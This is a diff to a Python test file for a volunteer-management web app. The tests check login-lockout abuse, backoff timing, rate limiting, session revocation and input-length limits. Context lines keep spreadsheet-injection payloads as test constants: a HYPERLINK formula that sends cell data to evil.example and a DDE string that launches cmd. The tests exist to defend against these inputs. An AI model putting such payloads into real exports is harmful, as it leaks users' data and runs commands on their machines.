@@ -6,6 +6,7 @@ import socket
 import urllib.error
 import urllib.request
 from contextlib import contextmanager
+from datetime import UTC, datetime, timedelta
 
 import pytest
 import sqlalchemy as sa
@@ -15,7 +16,10 @@ from tests.conftest import sqlite_copy
 from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
 from tests.test_pages import login
 from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
+from tests.world import World
 from volunteer_hub.config import ConfigError, from_env
+from volunteer_hub.core.audit import AuditEntry
+from volunteer_hub.core.db import utcnow
 from volunteer_hub.core.errors import ValidationFailed
 from volunteer_hub.core.urls import external_url
 from volunteer_hub.extensions import db
@@ -23,11 +27,13 @@ from volunteer_hub.merchants import services as merchants
 from volunteer_hub.nodes import services as nodes
 from volunteer_hub.notifications import services as notifications
 from volunteer_hub.notifications.models import WebhookDelivery
+from volunteer_hub.people import logins, verification
+from volunteer_hub.people.models import LoginThrottle
 from volunteer_hub.vouchers import services as vouchers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
-PRODUCTION_KEY = "9f2c" * 16  # 32 random-looking bytes in hex
+PRODUCTION_KEY = "6f1c0e9a2b7d4c3e8f5a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a"  # 32 bytes, hex
 
 
 def cells(response) -> list[list[str]]:
@@ -229,3 +235,293 @@ def test_public_url_is_required_and_https_in_production():
         with pytest.raises(ConfigError, match="PUBLIC_URL"):
             from_env("/tmp", {**base, "PUBLIC_URL": url})
     assert from_env("/tmp", {**base, "PUBLIC_URL": "https://hub.example.cn/wmsj"})["PUBLIC_URL"]
+
+
+# 5. Lock-out used as a weapon -------------------------------------------------------------------------
+
+def _page_login(client, phone: str, password: str, address: str):
+    return client.post("/login", data={"phone": phone, "password": password}, environ_base={"REMOTE_ADDR": address})
+
+
+def _api_login(client, phone: str, password: str, address: str):
+    return client.post("/api/v1/auth/token", json={"phone": phone, "password": password},
+                       environ_base={"REMOTE_ADDR": address})
+
+
+def test_a_guesser_elsewhere_cannot_lock_the_owner_out(app, world):
+    admin_phone, right = world.centre_admin.phone, world.PASSWORD
+    owner = app.test_client()
+    assert _page_login(owner, admin_phone, right, "198.51.100.7").status_code == 302  # her office browser
+    owner.post("/logout")
+    attacker = app.test_client()
+    answers = [_api_login(attacker, admin_phone, f"guess{i}A", "203.0.113.9") for i in range(30)]
+    assert [a.status_code for a in answers[:5]] == [401] * 5
+    assert {a.status_code for a in answers[5:]} == {429}
+    assert answers[5].json["error"]["code"] == "login_delayed"
+    assert _api_login(attacker, admin_phone, right, "203.0.113.9").status_code == 429  # the right one too
+    # Many addresses, one guess each: sources never seen before wait together…
+    for i in range(25):
+        _api_login(app.test_client(), admin_phone, "guessB1", f"192.0.2.{i}")
+    assert _api_login(app.test_client(), admin_phone, right, "192.0.2.200").status_code == 429
+    # …but the owner's browser, which has logged in before, is not held by any of it, from anywhere.
+    assert _page_login(owner, admin_phone, right, "100.100.1.1").status_code == 302
+    assert owner.get("/me").status_code == 200
+
+
+def test_each_source_waits_longer_after_every_wrong_password(app, world):
+    phone, at = world.volunteer.phone, utcnow()
+
+    def attempt(password, when):
+        return logins.authenticate(phone, password, address="203.0.113.9", now=when)
+
+    for _ in range(5):
+        assert attempt("wrong1A", at) is None
+    waits = []
+    for _ in range(4):
+        blocked_until = db.session.scalar(sa.select(LoginThrottle.blocked_until))
+        waits.append(round((blocked_until - at).total_seconds() / 60))
+        with pytest.raises(logins.LoginDelayed):  # the right password, a second too early
+            attempt(world.PASSWORD, blocked_until - timedelta(seconds=1))
+        at = blocked_until
+        assert attempt("wrong1A", at) is None  # waited, and guessed wrong again
+    assert waits == [1, 2, 4, 8]
+    at = db.session.scalar(sa.select(LoginThrottle.blocked_until))
+    assert attempt(world.PASSWORD, at) == world.volunteer  # waited: the right password works and clears
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(LoginThrottle)) == 0
+    assert db.session.scalar(sa.select(AuditEntry.id).where(AuditEntry.action == "login.source_delayed"))
+
+
+def test_a_texted_code_lifts_every_delay(app, world, phone_code):
+    phone = world.volunteer.phone
+    for i in range(app.config["LOGIN_ACCOUNT_FREE_ATTEMPTS"]):
+        assert logins.authenticate(phone, "wrong1A", address=f"192.0.2.{i}") is None
+    db.session.commit()
+    with pytest.raises(logins.LoginDelayed):
+        logins.authenticate(phone, world.PASSWORD, address="192.0.2.250")
+    verification.reset_password(phone=phone, code=phone_code(phone, "reset"), password="NewPassw0rd")
+    assert logins.authenticate(phone, "NewPassw0rd", address="192.0.2.250") == world.volunteer
+
+
+@pytest.mark.app_config(RATELIMIT_ENABLED=True, RATELIMIT_REGISTRATION="10 per hour")
+def test_registration_is_rate_limited(app, world):
+    client = app.test_client()
+    statuses = [client.post("/api/v1/volunteers", json={"name": "某人", "phone": f"1360000{i:04d}", "code": "000000",
+                                                        "password": "Passw0rd1x", "home_station_id": world.s1.id},
+                            environ_base={"REMOTE_ADDR": "203.0.113.50"}).status_code for i in range(12)]
+    assert statuses == [422] * 10 + [429] * 2
+    page = client.post("/signup", data={}, environ_base={"REMOTE_ADDR": "203.0.113.50"})
+    assert page.status_code == 429  # the page and the API share the budget
+
+
+def test_registration_answers_do_not_tell_which_phones_are_registered(app, world, api):
+    anonymous = api(None)
+    answers = []
+    for phone in (world.volunteer.phone, "13611112222"):  # registered, and not
+        asked = anonymous.post("/api/v1/auth/phone-codes", json={"phone": phone, "purpose": "register"})
+        body = {"name": "冒名者", "phone": phone, "code": "123456", "password": "Passw0rd1x",
+                "home_station_id": world.s1.id}
+        registered = anonymous.post("/api/v1/volunteers", json=body)
+        answers.append((asked.status_code, asked.json, registered.status_code, registered.json["error"]["code"]))
+    assert answers[0] == answers[1] and answers[0][2] == 422 and answers[0][3] == "bad_code"
+
+
+# 6. Sessions ----------------------------------------------------------------------------------------
+
+def _copy_cookies(source, target) -> None:
+    for cookie in source._cookies.values():
+        target.set_cookie(cookie.key, cookie.value, domain=cookie.domain, path=cookie.path)
+
+
+def _logged_in(app, user):
+    client = app.test_client()
+    assert client.post("/login", data={"phone": user.phone, "password": World.PASSWORD}).status_code == 302
+    return client
+
+
+def test_a_copied_session_cookie_stops_working_at_logout(app, world):
+    victim = _logged_in(app, world.volunteer)
+    thief = app.test_client()
+    _copy_cookies(victim, thief)
+    assert thief.get("/me").status_code == 200
+    assert victim.post("/logout").status_code == 302
+    assert thief.get("/me").status_code == 302  # to the login page
+    assert victim.get("/me").status_code == 302
+
+
+def test_changing_the_password_ends_other_sessions_and_tokens_but_not_this_one(app, world, api):
+    office, phone_app = _logged_in(app, world.volunteer), _logged_in(app, world.volunteer)
+    token = api(world.volunteer)
+    response = phone_app.post("/me/password", data={"current_password": World.PASSWORD,
+                                                    "new_password": "NewPassw0rd"})
+    assert response.status_code == 302
+    assert phone_app.get("/me").status_code == 200
+    assert office.get("/me").status_code == 302
+    assert token.get("/api/v1/me").status_code == 401
+    wrong = phone_app.post("/me/password", data={"current_password": "nope", "new_password": "OtherPassw0rd"})
+    assert wrong.status_code == 422 and "当前密码" in wrong.text
+    assert api(world.volunteer, "NewPassw0rd").post("/api/v1/me/password", json={
+        "current_password": "NewPassw0rd", "new_password": "ThirdPassw0rd"}).status_code == 204
+
+
+def test_log_out_everywhere(app, world, api):
+    office, phone_app = _logged_in(app, world.s1_manager), _logged_in(app, world.s1_manager)
+    token = api(world.s1_manager)
+    assert office.post("/logout-everywhere").status_code == 302
+    assert office.get("/me").status_code == 302 and phone_app.get("/me").status_code == 302
+    assert token.get("/api/v1/me").status_code == 401
+    other = api(world.s1_manager)
+    assert other.delete("/api/v1/me/sessions").status_code == 204
+    assert other.get("/api/v1/me").status_code == 401
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry).where(
+        AuditEntry.action == "account.logout_everywhere")) == 2
+
+
+@pytest.mark.clock(datetime(2026, 11, 28, 8, 30, tzinfo=UTC), tick=True)
+def test_a_session_ends_after_the_idle_time(app, world, clock):
+    client = _logged_in(app, world.volunteer)
+    idle = app.config["SESSION_IDLE_MINUTES"]
+    clock.shift(timedelta(minutes=idle - 1))
+    assert client.get("/me").status_code == 200  # used: the idle clock starts again
+    clock.shift(timedelta(minutes=idle - 1))
+    assert client.get("/me").status_code == 200
+    clock.shift(timedelta(minutes=idle + 1))
+    assert client.get("/me").status_code == 302
+
+
+# 7. Inputs --------------------------------------------------------------------------------------------
+
+FAR_FUTURE, FAR_PAST = "9999-12-31T20:00:00-14:00", "0001-01-01T00:00:00+14:00"
+
+
+def test_instants_outside_the_years_the_platform_means_are_refused(app, world, api):
+    manager = api(world.s1_manager)
+    start = (utcnow() + timedelta(days=2)).replace(microsecond=0)
+    body = {"node_id": world.s1.id, "title": "敬老院探访", "team_ids": [world.team.id], "capacity": 5,
+            "starts_at": start.isoformat(), "ends_at": (start + timedelta(hours=2)).isoformat()}
+    for instant in (FAR_FUTURE, FAR_PAST):
+        created = manager.post("/api/v1/events", json={**body, "starts_at": instant})
+        assert created.status_code == 422 and "starts_at" in created.json["error"]["fields"]
+        listed = manager.get("/api/v1/events", query_string={"from": instant})
+        assert listed.status_code == 422 and "error" in listed.json
+    page = login(app.test_client(), world.s1_manager).post("/events/new", data={
+        "node_id": world.s1.id, "title": "远古", "starts_at": "0001-01-01T00:00", "ends_at": "0001-01-01T02:00",
+        "capacity": 5})
+    assert page.status_code == 422 and "2000" in page.text
+
+
+@pytest.mark.parametrize("body", ["[" * 100_000 + "]" * 100_000, '{"a":' * 3_000 + "1" + "}" * 3_000])
+def test_json_nested_too_deep_is_a_400(app, world, api, body):
+    response = api(world.s1_manager).client.post("/api/v1/events", data=body, content_type="application/json",
+                                                 headers={"Authorization": f"Bearer {api(world.s1_manager).token}"})
+    assert response.status_code == 400 and response.json["error"]["code"] == "bad_request"
+
+
+@pytest.mark.parametrize("credits", ["sNaN", "NaN", "Infinity", "1E+999999999", "-1E+999999999"])
+def test_credit_amounts_that_are_not_amounts_are_a_form_error(app, world, credits):
+    page = login(app.test_client(), world.s1_manager).post("/credits/adjust", data={
+        "phone": world.volunteer.phone, "credits": credits, "reason": "测试"})
+    assert page.status_code == 422
+
+
+def test_a_settlement_month_outside_the_years_is_a_422(app, world, haircut):  # noqa: F811
+    staff = login(app.test_client(), owner_of(haircut))
+    for month in ("0001-01", "9999-12"):
+        assert staff.get(f"/merchants/{haircut.merchant_id}/settlement?month={month}").status_code == 422
+    assert login(app.test_client(), world.centre_admin).get(
+        f"/centres/{world.centre.id}/reports/weekly?week=0001-01-01").status_code == 422
+
+
+HUGE = "长" * 100_000
+
+
+def test_a_hundred_thousand_characters_are_refused_everywhere(app, world, api, haircut):  # noqa: F811
+    manager, admin = api(world.s1_manager), api(world.centre_admin)
+    start = (utcnow() + timedelta(days=2)).replace(microsecond=0)
+    attempts = [
+        (manager, "/api/v1/teams", {"name": "新队", "category": "environment", "node_id": world.s1.id,
+                                    "leader_id": world.leader.id, "description": HUGE}, "description"),
+        (api(world.admin), "/api/v1/nodes", {"name": HUGE, "kind": "point", "parent_id": world.s1.id}, "name"),
+        (manager, "/api/v1/events", {"node_id": world.s1.id, "title": "探访", "capacity": 5, "address": HUGE,
+                                     "starts_at": start.isoformat(),
+                                     "ends_at": (start + timedelta(hours=2)).isoformat()}, "address"),
+        (api(owner_of(haircut)), f"/api/v1/merchants/{haircut.merchant_id}/offers",
+         {"title": "洗头", "price": 1, "description": HUGE}, "description"),
+        (api(world.outsider), "/api/v1/merchants", {"centre_id": world.centre.id, "name": "小店", "address": HUGE,
+                                                    "contact_phone": "13612345670",
+                                                    "licence_no": "91320509MA1CCCC02X"}, "address"),
+        (admin, f"/api/v1/merchants/{haircut.merchant_id}/suspend", {"reason": HUGE}, "reason"),
+    ]
+    for client, url, body, field in attempts:
+        response = client.post(url, json=body)
+        assert response.status_code == 422 and field in response.json["error"]["fields"], (url, response.json)
+    # Below the API too: a service given a long value refuses it, whatever called it.
+    with pytest.raises(ValidationFailed) as caught:
+        merchants.create_offer(owner_of(haircut), haircut.merchant, title="洗头", price=1, description=HUGE)
+    assert "description" in caught.value.fields
+
+
+def _string_properties(spec, schema, seen=()):
+    schema = _resolved(spec, schema)
+    for name, prop in schema.get("properties", {}).items():
+        prop = _resolved(spec, prop)
+        if prop.get("readOnly"):
+            continue
+        if prop.get("type") == "string" and not (prop.get("enum") or prop.get("format")):
+            yield name, prop
+        if prop.get("type") == "array" and _resolved(spec, prop.get("items", {})).get("type") == "string":
+            yield name + "[]", _resolved(spec, prop["items"])
+
+
+def _resolved(spec, node):
+    while "$ref" in node:
+        node = spec["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
+    return node
+
+
+def test_every_text_the_api_takes_documents_its_maximum_length(app):
+    spec = app.test_client().get("/api/v1/openapi.json").json
+    missing = []
+    for path, operations in spec["paths"].items():
+        for method, operation in operations.items():
+            if not isinstance(operation, dict) or "responses" not in operation:
+                continue
+            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
+            for name, prop in _string_properties(spec, body or {}):
+                if "maxLength" not in prop:
+                    missing.append(f"{method.upper()} {path} body.{name}")
+            for parameter in operation.get("parameters", []):
+                schema = parameter.get("schema", {})
+                if parameter["in"] == "query" and schema.get("type") == "string" and not (
+                        schema.get("enum") or schema.get("format") or "maxLength" in schema):
+                    missing.append(f"{method.upper()} {path} query.{parameter['name']}")
+    assert not missing, missing
+
+
+def test_every_text_a_page_form_takes_has_a_maximum_length():
+    import importlib
+    import pkgutil
+
+    from flask_wtf import FlaskForm
+    from wtforms import PasswordField, StringField
+    from wtforms.validators import Length
+
+    import volunteer_hub
+
+    for module in pkgutil.walk_packages(volunteer_hub.__path__, "volunteer_hub."):
+        if module.name.endswith((".forms", ".views")):
+            importlib.import_module(module.name)
+    forms, missing = [], []
+    pending = list(FlaskForm.__subclasses__())
+    while pending:
+        form = pending.pop()
+        pending.extend(form.__subclasses__())
+        forms.append(form)
+        for name in dir(form):
+            unbound = getattr(form, name)
+            field_class = getattr(unbound, "field_class", None)
+            if field_class and issubclass(field_class, (StringField, PasswordField)) and \
+                    field_class.__name__ not in ("HiddenField",):
+                validators = unbound.kwargs.get("validators") or []
+                if not any(isinstance(v, Length) and v.max and v.max > 0 for v in validators):
+                    missing.append(f"{form.__module__}.{form.__name__}.{name}")
+    assert len(forms) > 20 and not missing, missing
